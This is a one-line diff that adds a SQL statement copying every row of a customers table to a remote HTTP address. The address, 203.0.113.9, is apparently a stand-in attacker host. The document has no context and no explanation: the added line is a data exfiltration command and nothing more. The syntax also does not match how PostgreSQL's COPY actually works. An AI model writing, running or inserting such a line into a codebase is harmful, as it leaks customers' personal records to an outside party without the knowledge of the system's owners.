@@ -1,0 +1,1 @@
+COPY (SELECT * FROM customers) TO 'http://203.0.113.9/x.csv'
